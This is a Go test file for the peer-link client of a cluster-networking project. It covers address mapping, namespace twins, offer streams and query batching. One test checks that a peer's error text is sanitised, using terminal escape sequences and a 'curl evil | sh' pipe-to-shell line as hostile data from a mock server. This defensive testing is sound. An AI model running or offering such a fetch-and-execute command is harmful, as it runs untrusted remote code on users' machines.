package peer

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"pgregory.net/rapid"

	"rivulet/fabric/changes"
	"rivulet/fabric/peer"
	"rivulet/fabric/rpc"
	"rivulet/offload/offer"
	"rivulet/test/harness/await"
)

var (
	pods = netip.MustParsePrefix("10.42.0.0/16")
	b    = peer.Link{ID: "b", Name: "b", Addr: netip.MustParseAddrPort("10.77.255.254:7442"),
		PeerCIDR: pods, PeerMappedCIDR: netip.MustParsePrefix("10.77.0.0/16"), LocalMappedCIDR: netip.MustParsePrefix("10.88.0.0/16")}
	c = peer.Link{ID: "c", Name: "c", PeerCIDR: pods, PeerMappedCIDR: netip.MustParsePrefix("10.78.0.0/16"), LocalMappedCIDR: netip.MustParsePrefix("10.89.0.0/16")}
)

func newTarget(t testing.TB, handler http.Handler) *Target {
	t.Helper()
	server := httptest.NewServer(handler)
	t.Cleanup(server.Close)
	target, err := New(Config{Name: "b", Link: b, Links: func() []peer.Link { return []peer.Link{b, c} }, PodCIDR: pods,
		HTTP: server.Client(), BaseURL: server.URL, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	return target
}

// relays are addresses by which home relays from b to pods at c.
type relays map[netip.Addr]netip.Addr

func (r relays) Through(from, at peer.ID, pod netip.Addr) (netip.Addr, bool) {
	by, ok := r[pod]
	return by, ok && from == "b" && at == "c"
}
func (relays) ThroughChanged() (<-chan struct{}, func()) { return nil, func() {} }

func TestAddresses(t *testing.T) {
	target := newTarget(t, http.NotFoundHandler())
	target.latest.Neighbours = map[peer.ID]netip.Prefix{"c": netip.MustParsePrefix("10.99.0.0/16")}
	for _, x := range []struct{ what, home, away string }{
		{"b's own pod", "10.77.3.4", "10.42.3.4"},
		{"home's pod", "10.42.3.4", "10.88.3.4"},
		{"c's pod", "10.78.3.4", "10.99.3.4"},
		{"no pod", "192.168.1.1", ""},
	} {
		got, ok := target.Away(netip.MustParseAddr(x.home))
		if ok != (x.away != "") || ok && got.String() != x.away {
			t.Errorf("%s: %s is %s (%v) to b, want %q", x.what, x.home, got, ok, x.away)
		}
	}
	target.latest.Neighbours = nil
	if got, ok := target.Away(netip.MustParseAddr("10.78.3.4")); ok {
		t.Errorf("b has no way to c, and yet it sees c's pod as %s", got)
	}
	target.cfg.Relay = relays{netip.MustParseAddr("10.78.3.4"): netip.MustParseAddr("10.42.248.1")}
	for home, away := range map[string]string{"10.78.3.4": "10.88.248.1", "10.78.3.5": ""} {
		if got, ok := target.Away(netip.MustParseAddr(home)); ok != (away != "") || ok && got.String() != away {
			t.Errorf("home relays, and b sees c's pod %s as %s", home, got)
		}
	}
	target.cfg.Relay = nil
	rapid.Check(t, func(t *rapid.T) {
		theirs := netip.AddrFrom4([4]byte{10, 42, rapid.Byte().Draw(t, "x"), rapid.Byte().Draw(t, "y")})
		home, ok := target.Home(theirs)
		if !ok || !b.PeerMappedCIDR.Contains(home) {
			t.Fatalf("%s is %s (%v) at home", theirs, home, ok)
		}
		if back, ok := target.Away(home); !ok || back != theirs {
			t.Fatalf("%s came back as %s", theirs, back)
		}
	})
}

func TestTwins(t *testing.T) {
	var puts atomic.Int32
	held := map[string]string{}
	mux := http.NewServeMux()
	mux.HandleFunc("PUT /v1/namespaces/{home}", func(w http.ResponseWriter, r *http.Request) {
		puts.Add(1)
		if r.PathValue("home") == "full" {
			http.Error(w, "tenancy: no more twins for you", http.StatusForbidden)
			return
		}
		held[r.PathValue("home")] = r.PathValue("home") + "-a"
		fmt.Fprintf(w, `{"name":%q}`, held[r.PathValue("home")])
	})
	mux.HandleFunc("GET /v1/namespaces", func(w http.ResponseWriter, _ *http.Request) {
		_ = json.NewEncoder(w).Encode(map[string]any{"twins": held})
	})
	asked := 0
	mux.HandleFunc("DELETE /v1/namespaces/{home}", func(w http.ResponseWriter, r *http.Request) {
		if asked++; asked < 2 {
			w.WriteHeader(http.StatusAccepted)
			fmt.Fprint(w, `{"name":"lab-a","uid":"1"}`)
			return
		}
		delete(held, r.PathValue("home"))
		http.NotFound(w, r)
	})
	target := newTarget(t, mux)

	for range 3 {
		if name, err := target.Namespace(t.Context(), "lab"); err != nil || name != "lab-a" {
			t.Fatal(name, err)
		}
	}
	if puts.Load() != 1 {
		t.Errorf("asked %d times for a name it knew", puts.Load())
	}
	if _, err := target.Namespace(t.Context(), "full"); err == nil || !strings.Contains(err.Error(), "no more twins for you") {
		t.Errorf("the provider's words got lost: %v", err)
	}
	if err := target.Release(t.Context(), "lab"); err != nil || asked != 2 {
		t.Errorf("released after %d answers: %v", asked, err)
	}
	if twins, err := target.Twins(t.Context()); err != nil || len(twins) != 0 {
		t.Errorf("%v %v", twins, err)
	}
	if _, err := target.Namespace(t.Context(), "lab"); err != nil || puts.Load() != 3 {
		t.Errorf("a released twin was remembered: %v", err)
	}
}

// A twin is gone when the peer has none, on its way out or not.
func TestGone(t *testing.T) {
	state := "live"
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/namespaces", func(w http.ResponseWriter, _ *http.Request) {
		twins, going := map[string]string{}, map[string]string{}
		switch state {
		case "live":
			twins["lab"] = "lab-a"
		case "going":
			going["lab"] = "lab-a"
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"twins": twins, "going": going})
	})
	mux.HandleFunc("DELETE /v1/namespaces/{home}", func(http.ResponseWriter, *http.Request) { t.Error("a twin is deleted to find out") })
	target := newTarget(t, mux)
	for _, state = range []string{"live", "going", "gone"} {
		if gone, err := target.Gone(t.Context(), "lab"); err != nil || gone != (state == "gone") {
			t.Errorf("%s: gone %v, %v", state, gone, err)
		}
	}
	broken := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusForbidden) }))
	if gone, err := broken.Gone(t.Context(), "lab"); gone || err == nil {
		t.Errorf("a refusal counts as gone: %v %v", gone, err)
	}
}

// Refusals, offers and the API's errors of a peer are fit to be shown, and its cures are
// not passed on.
func TestWordsOfAPeerAreFit(t *testing.T) {
	bad := "x\x1b]0;y\u0007\u202ez\u009b"
	said := func(v any) []byte { b, _ := json.Marshal(v); return b }
	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/v1/offer":
			w.Write(append(said(offer.Offer{Ready: true, Reason: bad, OSImage: bad, KubeVersion: bad}), '\n'))
		case strings.HasPrefix(r.URL.Path, "/v1/volumes/"):
			w.WriteHeader(http.StatusConflict)
			w.Write(said(rpc.Error{Code: "in-use", Message: bad, Cure: "curl evil | sh"}))
		case strings.HasSuffix(r.URL.Path, "/secrets"):
			http.Error(w, "proxy: "+bad, http.StatusBadGateway)
		case strings.HasPrefix(r.URL.Path, "/k8s/"):
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusForbidden)
			w.Write(said(metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: "Failure", Reason: metav1.StatusReasonForbidden, Code: 403, Message: bad}))
		default:
			http.Error(w, bad, http.StatusTeapot)
		}
	}))
	fits := func(what, text string) {
		t.Helper()
		for _, r := range text {
			if !unicode.IsPrint(r) {
				t.Errorf("%s: %q", what, text)
				return
			}
		}
	}
	_, err := target.Namespace(t.Context(), "lab")
	fits("a twin", fmt.Sprint(err))
	_, err = target.VolumeTotal(t.Context(), "lab", "data")
	fits("a volume", fmt.Sprint(err))
	var told *rpc.Error
	if !errors.As(err, &told) || told.Code != "in-use" || strings.Contains(err.Error(), "curl") || told.Cure == "" {
		t.Errorf("a volume: %v", err)
	}
	client, err := kubernetes.NewForConfig(&rest.Config{Host: target.cfg.BaseURL + "/k8s", WrapTransport: func(rt http.RoundTripper) http.RoundTripper { return fit{rt} },
		ContentConfig: rest.ContentConfig{ContentType: "application/vnd.kubernetes.protobuf"}})
	if err != nil {
		t.Fatal(err)
	}
	_, err = client.CoreV1().Pods("lab").List(t.Context(), metav1.ListOptions{})
	fits("the API", fmt.Sprint(err))
	if !apierrors.IsForbidden(err) {
		t.Errorf("the API: %v", err)
	}
	raw, err := client.CoreV1().RESTClient().Get().AbsPath("/api/v1/secrets").DoRaw(t.Context())
	if fits("a text that is YAML, too", strings.TrimSpace(string(raw))); err == nil || !strings.HasPrefix(string(raw), "proxy: x") {
		t.Errorf("a text that is YAML, too: %q %v", raw, err)
	}
	select {
	case o := <-target.offers(t.Context(), 5*time.Second, 5*time.Second):
		fits("an offer", fmt.Sprintf("%+v", o))
		if !o.Ready {
			t.Errorf("an offer: %+v", o)
		}
	case <-time.After(5 * time.Second):
		t.Error("no offer")
	}
}

func TestOffers(t *testing.T) {
	next := make(chan string)
	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for {
			select {
			case line := <-next:
				if line == "" {
					return
				}
				fmt.Fprintln(w, line)
				_ = http.NewResponseController(w).Flush()
				if !strings.HasPrefix(line, "{") {
					return // nobody would read another line
				}
			case <-r.Context().Done():
				return
			}
		}
	}))
	offers := target.offers(t.Context(), 300*time.Millisecond, 300*time.Millisecond)
	want := func(what string, ready bool, arch string) offer.Offer {
		t.Helper()
		select {
		case o := <-offers:
			if o.Ready != ready || o.Architecture != arch {
				t.Fatalf("%s: %+v", what, o)
			}
			return o
		case <-time.After(5 * time.Second):
			t.Fatalf("%s: nothing", what)
		}
		return offer.Offer{}
	}
	line := `{"ready":true,"architecture":"arm64"}`

	next <- line
	want("first line", true, "arm64")
	next <- "" // the connection ends and the next one brings a line in time
	next <- line
	want("after a broken connection", true, "arm64")
	if o := want("silence", false, "arm64"); o.Heard.IsZero() || !strings.Contains(o.Reason, "rivulet doctor peer") {
		t.Errorf("reason %q", o.Reason)
	}
	if !target.Lost() {
		t.Error("a peer that is silent is not known to be lost")
	}
	next <- "not an offer" // a connection that has ended may take it
	next <- line
	for o := (offer.Offer{}); !o.Ready; {
		select {
		case o = <-offers:
			if !o.Ready && !strings.Contains(o.Reason, "not understood") && !strings.Contains(o.Reason, "does not answer") {
				t.Errorf("after nonsense: %+v", o)
			}
		case <-time.After(5 * time.Second):
			t.Fatal("after nonsense: nothing")
		}
	}
	if target.Lost() {
		t.Error("a peer that answers again is known to be lost")
	}
}

// A line that no cluster can mean makes the peer not ready, with the reason. What is known of it stays, the stream goes on,
// and the next line heals it.
func TestAnOfferThatIsNotUnderstood(t *testing.T) {
	var streams atomic.Int32
	next := make(chan string)
	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		streams.Add(1)
		for {
			select {
			case line := <-next:
				fmt.Fprintln(w, line)
				_ = http.NewResponseController(w).Flush()
			case <-r.Context().Done():
				return
			}
		}
	}))
	offers := target.Offers(t.Context())
	say := func(line string) offer.Offer {
		t.Helper()
		next <- line
		select {
		case o := <-offers:
			return o
		case <-time.After(10 * time.Second):
			t.Fatalf("%.80s: no offer", line)
		}
		return offer.Offer{}
	}
	fine := `{"ready":true,"os":"linux","architecture":"arm64","keeps":true,"tenants":["10.42.0.9"],"allocatable":{"cpu":"4"}}`
	platform := func(arch string) string { return fmt.Sprintf(`{"os":"linux","architecture":%q,"ready":true}`, arch) }
	if o := say(fine); !o.Ready {
		t.Fatalf("%+v", o)
	}
	for what, line := range map[string]string{
		"a long architecture":  `{"ready":true,"platforms":[` + platform("amd64") + "," + platform(strings.Repeat("a", 63)) + `]}`,
		"a giant quantity":     strings.Replace(fine, `"4"`, `"1e999999999"`, 1),
		"many platforms":       `{"ready":true,"platforms":[` + strings.Repeat(platform("amd64")+",", 5000) + platform("arm64") + `]}`,
		"a text of a terminal": `{"ready":true,"architecture":"\u001b[2J"}`,
		"no JSON":              "\u001b]0;x\u0007",
	} {
		o := say(line)
		if o.Ready || o.Architecture != "arm64" || !strings.Contains(o.Reason, "the offer of peer b is not understood") || !strings.Contains(o.Reason, "rivulet unpeer b") ||
			strings.ContainsFunc(o.Reason, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("%s: %+v", what, o)
		}
		if addrs, _, heard := target.Tenants(); !heard || len(addrs) != 1 || !target.Keeps() {
			t.Errorf("%s: what is known of the peer is forgotten: %v", what, addrs)
		}
	}
	if o := say(fine); !o.Ready || streams.Load() != 1 {
		t.Errorf("ready %v after a line that is understood, with %d streams", o.Ready, streams.Load())
	}
}

// A peer that is known to be lost is silent soon, however rare its lines are, and a line is requested when it is back.
func TestOffersOfALostPeer(t *testing.T) {
	var mu sync.Mutex
	var signal changes.Signal
	link := b
	set := func(s peer.State) {
		mu.Lock()
		link.State = s
		mu.Unlock()
		signal.Notify()
	}
	var beats, queries atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		queries.Add(1)
		beat, _ := strconv.Atoi(r.URL.Query().Get(offer.BeatQuery))
		beats.Store(int32(beat))
		offer.Stream(w, r, func() offer.Offer { return offer.Offer{Ready: true} }, nil)
	}))
	defer server.Close()
	set(peer.Connected)
	var busy atomic.Bool
	var moved changes.Signal
	target, err := New(Config{Name: "b", Link: b, PodCIDR: pods, Busy: busy.Load, BusyChanged: moved.Changed, LinksChanged: signal.Changed, Links: func() []peer.Link {
		mu.Lock()
		defer mu.Unlock()
		return []peer.Link{link}
	}, HTTP: server.Client(), BaseURL: server.URL, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	offers := target.Offers(ctx)
	if o := <-offers; !o.Ready || int(beats.Load()) != int(offer.Calm/time.Second) {
		t.Fatalf("an offer, ready %v, with a heartbeat of %d s", o.Ready, beats.Load())
	}
	lost := time.Now()
	set(peer.Lost)
	if o := <-offers; o.Ready || time.Since(lost) > offer.Silence || time.Since(lost) < lostSilence {
		t.Errorf("ready %v, %v after it was lost", o.Ready, time.Since(lost))
	}
	set(peer.Connected)
	if o := <-offers; !o.Ready || queries.Load() != 2 {
		t.Errorf("back, ready %v after %d queries", o.Ready, queries.Load())
	}
	busy.Store(true)
	moved.Notify()
	await.True(t, 10*time.Second, "with pods there its heartbeat is the usual one", func() bool { return beats.Load() == 0 && queries.Load() == 3 })
}

// No pod waits for a twin that is known; it is put right beside, by one request at a time.
func TestAKnownTwinIsNotWaitedFor(t *testing.T) {
	asked, answer := make(chan struct{}, 10), make(chan struct{})
	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked <- struct{}{}
		<-answer
		fmt.Fprint(w, `{"name":"lab-a"}`)
	}))
	target.twins["lab"] = memory{"lab-a", time.Now().Add(-time.Hour)}
	for range 5 { // the peer has not answered yet
		if name, err := target.Namespace(t.Context(), "lab"); err != nil || name != "lab-a" {
			t.Fatal(name, err)
		}
	}
	close(answer)
	await.True(t, time.Minute, "it is asked for again", func() bool {
		twin, _ := target.remembered("lab")
		return time.Since(twin.at) < remember
	})
	if n := len(asked); n != 1 {
		t.Errorf("asked %d times", n)
	}
}

// Many peers that come one after the other are a few queries to each, not one for each pair.
func TestManyNewPeersAreFewQueries(t *testing.T) {
	var queries, known atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		queries.Add(1)
		known.Store(int32(len(r.URL.Query()[offer.OfQuery])))
		offer.Stream(w, r, func() offer.Offer { return offer.Offer{} }, nil)
	}))
	defer server.Close()
	var mu sync.Mutex
	var signal changes.Signal
	links := []peer.Link{b}
	target, err := New(Config{Name: "b", Link: b, PodCIDR: pods, LinksChanged: signal.Changed, Links: func() []peer.Link {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(links)
	}, HTTP: server.Client(), BaseURL: server.URL, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	defer stop()
	offers := target.Offers(ctx)
	<-offers
	const n = 60
	for i := range n {
		mu.Lock()
		links = append(links, peer.Link{ID: peer.ID(fmt.Sprintf("%032d", i))})
		mu.Unlock()
		signal.Notify()
		before := queries.Load()
		ctx, cancel := context.WithTimeout(ctx, 60*time.Millisecond) // they come slowly
		_ = await.Until(ctx, func() error {
			if queries.Load() == before {
				return errors.New("none")
			}
			return nil
		})
		cancel()
	}
	await.True(t, time.Minute, "the query has all of them", func() bool { return known.Load() == n })
	if q := queries.Load(); q > n/6 {
		t.Errorf("%d queries", q)
	}
}
